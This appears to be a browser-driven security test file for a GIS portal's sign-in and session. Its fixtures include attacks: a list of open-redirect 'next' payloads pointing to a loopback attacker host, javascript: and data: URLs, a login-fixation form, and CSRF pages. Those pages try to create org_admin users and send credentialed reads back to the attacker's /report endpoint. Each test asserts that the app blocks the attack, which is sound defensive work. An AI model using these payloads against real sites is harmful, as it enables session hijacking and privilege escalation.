/**
 * The directory pages' sign-in and session, attacked from a real browser (Chromium through playwright-core):
 * - hostile `next` values (tab, newline, backslash, encoded forms, `javascript:`, absolute and protocol-relative URLs)
 *   must neither land off-site nor put a token in any URL, history entry or Referer;
 * - a `?token=` link must not plant its token in the visitor's session (fixation), nor may another site's form;
 * - sign-out revokes the token on the server;
 * - another origin on this host (the same site, so SameSite=Strict still sends it the cookie), even one trusted with
 *   CORS credentials, cannot act or read with the cookie.
 * The "evil" origin is a loopback server on another port that records every request that reaches it.
 */
import { createHash } from 'node:crypto';
import { createServer, IncomingMessage, Server } from 'node:http';
import { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { startApp, TestApp } from '../support/app';
import { launchChromium } from '../support/browser';
import { csrfOf } from '../../src/identity/page-session';
import { adminToken, createUser, get, post } from '../support/client';

jest.setTimeout(120_000);

interface Hit {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** Another origin on loopback: answers `pages()[path]` (or a plain page) and records every request. */
async function evilServer(pages: () => Record<string, string>): Promise<{ origin: string; hits: Hit[]; close(): Promise<void> }> {
  const hits: Hit[] = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString('utf8')));
    req.on('end', () => {
      hits.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      const path = (req.url ?? '/').split('?')[0];
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(pages()[path] ?? '<!doctype html><title>evil</title><p>evil</p>');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

let t: TestApp;
let browser: Browser;
let evil: Awaited<ReturnType<typeof evilServer>>;
let admin: string;
let user: { username: string; password: string; token: string };
let attacker: { username: string; password: string; token: string };
const SESSION = 'arcgis_page_session';

/** What the evil origin's pages do with a signed-in visitor's cookie; each reports back to /report. */
function attackPages(root: string): Record<string, string> {
  const victimUser = 'csrf_victim_made';
  return {
    // The attacker's own account, signed in for the visitor by a form of this site (login fixation).
    '/login': `<!doctype html><body><form id="f" method="post" action="${root}/sharing/rest/generateToken">
      <input name="f" value="html"><input name="username" value="${attacker?.username}">
      <input name="password" value="${attacker?.password}"></form><script>document.getElementById('f').submit()</script></body>`,
    // A form posted to the API (a top-level navigation: the cookie goes, the page leaves).
    '/form': `<!doctype html><body><form id="f" method="post" action="${root}/portaladmin/security/users/createUser">
      <input name="username" value="${victimUser}_form"><input name="password" value="password-1234567">
      <input name="email" value="x@example.org"><input name="role" value="org_admin"><input name="f" value="json">
      </form><script>document.getElementById('f').submit()</script></body>`,
    // Scripts: a simple POST (no preflight), an image GET of the same operation, and credentialed reads.
    '/script': `<!doctype html><body><script>
      (async function () {
        var out = {};
        var create = new URLSearchParams({ username: '${victimUser}_fetch', password: 'password-1234567', email: 'x@example.org', role: 'org_admin', f: 'json' });
        try { await fetch('${root}/portaladmin/security/users/createUser', { method: 'POST', body: create, credentials: 'include', mode: 'no-cors' }); } catch (e) {}
        try { await fetch('${root}/portaladmin/security/users/createUser', { method: 'POST', body: create, credentials: 'include', headers: { 'X-CSRF-Token': 'guess' } }); } catch (e) {}
        var img = new Image();
        img.src = '${root}/portaladmin/security/users/createUser?username=${victimUser}_img&password=password-1234567&email=x%40example.org&role=org_admin&f=json';
        await new Promise(function (r) { img.onload = img.onerror = r; });
        try { out.self = await (await fetch('${root}/sharing/rest/community/self?f=json', { credentials: 'include' })).text(); } catch (e) { out.self = 'blocked'; }
        try { out.page = await (await fetch('${root}/arcgis/rest/services?f=html', { credentials: 'include' })).text(); } catch (e) { out.page = 'blocked'; }
        await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
        document.title = 'done';
      })();
    </script></body>`,
  };
}

beforeAll(async () => {
  evil = await evilServer(() => attackPages(t.root));
  // Trusted with CORS credentials on purpose: even such an origin must not use the pages' cookie.
  t = await startApp({ CONTEXT_PATH: '/portal', CORS_CREDENTIAL_ORIGINS: evil.origin });
  admin = await adminToken(t.base);
  user = await createUser(t.base, admin, 'org_publisher');
  attacker = await createUser(t.base, admin, 'org_user');
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await evil?.close();
  await t?.close();
});

/** A fresh browser profile whose every navigation, request and Referer is recorded. */
async function visitor(): Promise<{ context: BrowserContext; page: Page; urls: string[]; referers: string[]; dialogs: string[] }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  page.setDefaultTimeout(15_000);
  const urls: string[] = [];
  const referers: string[] = [];
  const dialogs: string[] = [];
  page.on('framenavigated', (f) => urls.push(f.url()));
  page.on('request', (r) => {
    urls.push(r.url());
    const ref = r.headers().referer;
    if (ref) referers.push(ref);
  });
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  return { context, page, urls, referers, dialogs };
}

/** When the token was revoked, as the database has it (null: still live). */
async function revokedAt(token: string): Promise<Date | null> {
  const hash = createHash('sha256').update(token).digest();
  const [row] = await t.db.query('SELECT revoked_at FROM tokens WHERE token_hash = $1', [hash]);
  return row.revoked_at;
}

/** The session's token: the cookie's (a URL's, with the old pages, so a test of revocation fails for its reason). */
async function sessionToken(context: BrowserContext, page: Page): Promise<string | undefined> {
  const cookie = (await context.cookies()).find((c) => c.name === SESSION)?.value;
  return cookie ?? new URL(page.url()).searchParams.get('token') ?? undefined;
}

/** Opens the sign-in page with `nextQuery` (already encoded, as an attacker's link has it) and signs in. */
async function signIn(page: Page, who: { username: string; password: string }, nextQuery?: string) {
  await page.goto(`${t.root}/sharing/rest/generateToken?f=html${nextQuery === undefined ? '' : `&next=${nextQuery}`}`);
  await page.fill('#username', who.username);
  await page.fill('#password', who.password);
  await Promise.all([
    page.waitForURL((u) => !u.pathname.endsWith('/generateToken')),
    page.getByRole('button', { name: 'Sign in' }).click(),
  ]);
  await page.waitForLoadState('load');
}

describe('sign-in redirect (next)', () => {
  const host = () => new URL(evil.origin).host;
  const enc = encodeURIComponent;
  // Each as it would appear in an attacker's link: the query value, encoded (or not) by the attacker.
  const hostile: [string, () => string][] = [
    ['tab, as in the report', () => `%2F%09%2F${host()}%2Fsteal`],
    ['newline', () => `%2F%0A%2F${host()}%2Fsteal`],
    ['carriage return and newline', () => `%2F%0D%0A%2F${host()}%2Fsteal`],
    ['leading tab', () => `%09%2F%2F${host()}%2Fsteal`],
    ['leading space', () => `%20%2F%2F${host()}%2Fsteal`],
    ['backslash after the slash', () => `%2F%5C${host()}%2Fsteal`],
    ['two backslashes', () => `%5C%5C${host()}%2Fsteal`],
    ['slash and backslash', () => `%2F%5C%2F${host()}%2Fsteal`],
    ['protocol-relative', () => `%2F%2F${host()}%2Fsteal`],
    ['protocol-relative, unencoded', () => `//${host()}/steal`],
    ['three slashes', () => `%2F%2F%2F${host()}%2Fsteal`],
    ['a dot segment that leaves two slashes', () => `%2F.%2F%2F${host()}%2Fsteal`],
    ['double-encoded slashes', () => `%252F%252F${host()}%252Fsteal`],
    ['absolute URL', () => enc(`${evil.origin}/steal`)],
    ['absolute URL in capitals', () => enc(`HTTP://${host()}/steal`)],
    ['absolute URL without slashes', () => enc(`http:${host()}/steal`)],
    ['our host as user info of theirs', () => enc(`${new URL(t.root).origin}@${host()}/steal`)],
    ['javascript:', () => enc(`javascript:alert(document.cookie)`)],
    ['javascript: with a tab', () => enc(`java\tscript:alert(1)`)],
    ['javascript: after a space', () => enc(` javascript:alert(1)`)],
    ['data: URL', () => enc(`data:text/html,<script>alert(1)</script>`)],
    ['outside the context path', () => enc(`/steal?f=html`)],
    ['a dot segment out of the context path', () => enc(`/portal/../steal`)],
    ['our origin, another port', () => enc(`http://127.0.0.1:1/portal/arcgis/rest/services`)],
  ];

  it.each(hostile)('%s: lands on our home page, never off-site, and no URL carries a token', async (_name, next) => {
    const { context, page, urls, referers, dialogs } = await visitor();
    evil.hits.length = 0;
    await signIn(page, user, next());
    const token = await sessionToken(context, page);
    expect(token).toBeTruthy();
    const landed = new URL(page.url());
    expect(landed.origin).toBe(new URL(t.root).origin);
    expect(landed.pathname).toBe('/portal/arcgis/rest/services');
    expect(await page.locator('header .user').textContent()).toContain(`Signed in as ${user.username}`);
    for (const u of [...urls, ...referers]) {
      expect(u).not.toContain(token);
      expect(u).not.toMatch(/[?&]token=/);
    }
    expect(evil.hits).toEqual([]);
    expect(dialogs).toEqual([]);
    await context.close();
  });

  it('a next within the context path is where the sign-in leads, as a page, with no token', async () => {
    const { context, page, urls } = await visitor();
    const svc = `/portal/arcgis/rest/services/none_such/FeatureServer/0?token=${attacker.token}`;
    await signIn(page, user, encodeURIComponent(svc));
    const landed = new URL(page.url());
    expect(landed.pathname).toBe('/portal/arcgis/rest/services/none_such/FeatureServer/0');
    expect(landed.searchParams.get('f')).toBe('html');
    expect(landed.searchParams.has('token')).toBe(false);
    // The page is drawn for the session's user, not for the token the link carried.
    expect(await page.locator('header .user').textContent()).toContain(`Signed in as ${user.username}`);
    const token = await sessionToken(context, page);
    for (const u of urls) expect(u).not.toContain(token);
    await context.close();
  });

  it('is enforced by the server whatever the page sends: every hostile next is answered with a redirect home', async () => {
    const home = '/portal/arcgis/rest/services?f=html';
    for (const [name, next] of hostile) {
      const body = new URLSearchParams({ f: 'html', username: user.username, password: user.password });
      body.set('next', decodeURIComponent(next()));
      const res = await fetch(`${t.base}/generateToken`, {
        method: 'POST',
        body,
        redirect: 'manual',
        headers: { 'Sec-Fetch-Site': 'same-origin' },
      });
      expect([name, res.status, res.headers.get('location')]).toEqual([name, 303, home]);
    }
  });
});

describe('page session', () => {
  it('pages carry no token in links, forms or scripts; their links (JSON, data) work through the session', async () => {
    const owner = await createUser(t.base, admin, 'org_publisher');
    const item = (
      await post(t.base, `content/users/${owner.username}/addItem`, { title: 'Notes', type: 'Web Map', text: '{}' }, owner.token)
    ).body.id as string;
    const { context, page, urls, referers } = await visitor();
    await signIn(page, owner);
    await page.goto(`${t.base}/content/items/${item}?f=html`);
    expect(await page.locator('h1').textContent()).toBe('Notes');
    const html = await page.content();
    const token = (await sessionToken(context, page))!;
    expect(html).not.toContain(token);
    expect(html).not.toMatch(/token=/);
    // The page's JSON link is a navigation the session authenticates (the item is private: anonymous gets an error).
    await Promise.all([page.waitForURL(/f=pjson/), page.getByRole('link', { name: 'JSON', exact: true }).click()]);
    expect(JSON.parse((await page.locator('body').textContent()) ?? '{}')).toMatchObject({ id: item, title: 'Notes' });
    // So is its data, opened without a token.
    await page.goto(`${t.base}/content/items/${item}/data`);
    expect(await page.locator('body').textContent()).toBe('{}');
    for (const u of [...urls, ...referers]) expect(u).not.toContain(token);
    // The same read by a script (not a navigation) is anonymous without the CSRF value.
    const scripted = await page.evaluate(
      (url) => fetch(url, { credentials: 'same-origin' }).then((r) => r.text()),
      `${t.base}/content/items/${item}?f=json`,
    );
    expect(scripted).toContain('"code":400');
    await context.close();
  });

  it('a ?token= link does not plant its token in the session: later pages are not that user', async () => {
    const { context, page } = await visitor();
    await page.goto(`${t.root}/arcgis/rest/services?f=html&token=${attacker.token}`);
    expect((await context.cookies()).some((c) => c.name === SESSION)).toBe(false);
    await page.goto(`${t.root}/arcgis/rest/services?f=html`);
    expect(await page.locator('header .user').textContent()).not.toContain(attacker.username);
    expect(page.url()).not.toContain('token=');
    // The page drawn for the link's token takes it out of the address bar, and so out of that history entry.
    await page.goto(`${t.root}/arcgis/rest/services?f=html&token=${attacker.token}`);
    await page.waitForFunction(() => !(globalThis as unknown as { location: { search: string } }).location.search.includes('token='));

    // Signed in as themselves, a victim who opens the attacker's link stays themselves on the next page.
    await signIn(page, user);
    await page.goto(`${t.root}/arcgis/rest/services?f=html&token=${attacker.token}`);
    await page.goto(`${t.root}/arcgis/rest/services?f=html`);
    expect(await page.locator('header .user').textContent()).toContain(`Signed in as ${user.username}`);
    await context.close();
  });

  it("another site's form cannot sign the visitor in (login fixation)", async () => {
    const { context, page } = await visitor();
    await page.goto(`${evil.origin}/login`);
    await page.waitForURL((u) => u.href.startsWith(t.root));
    await page.waitForLoadState('load');
    expect((await context.cookies()).some((c) => c.name === SESSION)).toBe(false);
    await page.goto(`${t.root}/arcgis/rest/services?f=html`);
    expect(await page.locator('header .user').textContent()).not.toContain(attacker.username);
    await context.close();
  });

  it('sign-out revokes the token on the server and clears the cookie', async () => {
    const { context, page } = await visitor();
    await signIn(page, user);
    const token = (await sessionToken(context, page))!;
    expect(await revokedAt(token)).toBeNull();
    await Promise.all([
      page.waitForURL((u) => u.pathname.endsWith('/arcgis/rest/services')),
      page.getByRole('button', { name: 'Sign out' }).click(),
    ]);
    expect(await revokedAt(token)).toBeInstanceOf(Date);
    expect((await context.cookies()).some((c) => c.name === SESSION)).toBe(false);
    expect(await page.locator('header .user').textContent()).toContain('Sign in');
    await context.close();
  });

  it("the session's token counts only as the cookie, and only a page sign-in's token counts as the cookie", async () => {
    const { context, page } = await visitor();
    await signIn(page, user);
    const token = (await sessionToken(context, page))!;
    const self = (cookie: string, csrf: string) =>
      fetch(`${t.base}/community/self`, {
        method: 'POST',
        body: new URLSearchParams({ f: 'json' }),
        headers: { cookie, 'x-csrf-token': csrf, 'sec-fetch-site': 'same-origin' },
      }).then((r) => r.json() as Promise<{ username?: string; error?: { code: number } }>);
    expect((await self(`${SESSION}=${token}`, csrfOf(token))).username).toBe(user.username);
    // Copied out of the cookie (a service on another port of the host receives it), it is no API token.
    expect((await get(t.base, 'community/self', {}, token)).body.error?.code).toBe(498);
    const bearer = await fetch(`${t.base}/community/self?f=json`, { headers: { authorization: `Bearer ${token}` } });
    expect(((await bearer.json()) as { error?: { code: number } }).error?.code).toBe(498);
    // An API token planted as the cookie, or a second cookie of the name beside the real one, is no session.
    expect((await self(`${SESSION}=${attacker.token}`, csrfOf(attacker.token))).error?.code).toBe(499);
    expect((await self(`${SESSION}=${token}; ${SESSION}=${token}`, csrfOf(token))).error?.code).toBe(499);
    await context.close();
  });

  it('another origin on this host, even one trusted with CORS credentials, cannot act or read with the cookie', async () => {
    const { context, page } = await visitor();
    await signIn(page, { username: 'admin', password: 'admin-password-1' });
    const cookie = (await context.cookies()).find((c) => c.name === SESSION);
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/portal' });

    evil.hits.length = 0;
    await page.goto(`${evil.origin}/script`);
    await page.waitForFunction(() => (globalThis as unknown as { document: { title: string } }).document.title === 'done');
    const report = JSON.parse(evil.hits.find((h) => h.url === '/report')!.body) as { self: string; page: string };
    // Read with the cookie, the trusted origin sees an anonymous visitor.
    expect(report.self).toContain('499');
    expect(report.page).not.toContain('Signed in as');
    await page.goto(`${evil.origin}/form`);
    await page.waitForURL((u) => u.href.startsWith(t.root));

    for (const how of ['form', 'fetch', 'img']) {
      const r = await get(t.base, `community/users/csrf_victim_made_${how}`, {}, admin);
      expect([how, r.body.error?.code]).toEqual([how, 400]);
    }
    // Still signed in: none of this touched the session.
    await page.goto(`${t.root}/arcgis/rest/services?f=html`);
    expect(await page.locator('header .user').textContent()).toContain('Signed in as admin');
    await context.close();
  });

  it('the cookie is refused on a request another origin sends, with a valid CSRF value too', async () => {
    const { context, page } = await visitor();
    await signIn(page, user);
    const token = (await sessionToken(context, page))!;
    const cookie = `${SESSION}=${token}`;
    const csrf = await page.locator('body').getAttribute('data-csrf');
    expect(csrf).toBeTruthy();
    const self = (headers: Record<string, string>) =>
      fetch(`${t.base}/community/self`, { method: 'POST', body: new URLSearchParams({ f: 'json' }), headers: { cookie, ...headers } }).then(
        (r) => r.json() as Promise<{ username?: string; error?: { code: number } }>,
      );
    expect((await self({ 'x-csrf-token': csrf!, 'sec-fetch-site': 'same-origin' })).username).toBe(user.username);
    expect((await self({ 'x-csrf-token': csrf!, 'sec-fetch-site': 'same-site' })).error?.code).toBe(499);
    expect((await self({ 'x-csrf-token': csrf!, origin: evil.origin })).error?.code).toBe(499);
    expect((await self({ 'sec-fetch-site': 'same-origin' })).error?.code).toBe(499);
    expect((await self({ 'x-csrf-token': 'guess', 'sec-fetch-site': 'same-origin' })).error?.code).toBe(498);
    // A GET of an operation, even from our own origin, is not a page: it needs the CSRF value too.
    const r = await fetch(`${t.base}/community/self?f=json`, {
      headers: { cookie, 'sec-fetch-site': 'same-origin', 'sec-fetch-mode': 'navigate' },
    });
    expect(((await r.json()) as { error?: { code: number } }).error?.code).toBe(499);
    await context.close();
  });
});

describe('page session behind an https PUBLIC_URL', () => {
  it('sets the cookie Secure on the public path, and redirects within it', async () => {
    const https = await startApp({ PUBLIC_URL: 'https://gis.example.org/gis' });
    try {
      const who = await createUser(https.base, await adminToken(https.base), 'org_user');
      const body = new URLSearchParams({ f: 'html', username: who.username, password: who.password, next: '/elsewhere' });
      const res = await fetch(`${https.base}/generateToken`, {
        method: 'POST',
        body,
        redirect: 'manual',
        headers: { 'Sec-Fetch-Site': 'same-origin' },
      });
      expect(res.status).toBe(303);
      expect(res.headers.get('location')).toBe('/gis/arcgis/rest/services?f=html');
      const cookie = res.headers.getSetCookie().find((c) => c.startsWith(`${SESSION}=`)) ?? '';
      expect(cookie).toMatch(/; Path=\/gis(;|$)/);
      expect(cookie).toMatch(/; HttpOnly(;|$)/);
      expect(cookie).toMatch(/; Secure(;|$)/);
      expect(cookie).toMatch(/; SameSite=Strict(;|$)/);
      // A next under the public path is kept.
      body.set('next', 'https://gis.example.org/gis/sharing/rest/content/items/abc');
      const kept = await fetch(`${https.base}/generateToken`, {
        method: 'POST',
        body,
        redirect: 'manual',
        headers: { 'Sec-Fetch-Site': 'same-origin' },
      });
      expect(kept.headers.get('location')).toBe('/gis/sharing/rest/content/items/abc?f=html');
    } finally {
      await https.close();
    }
  });
});
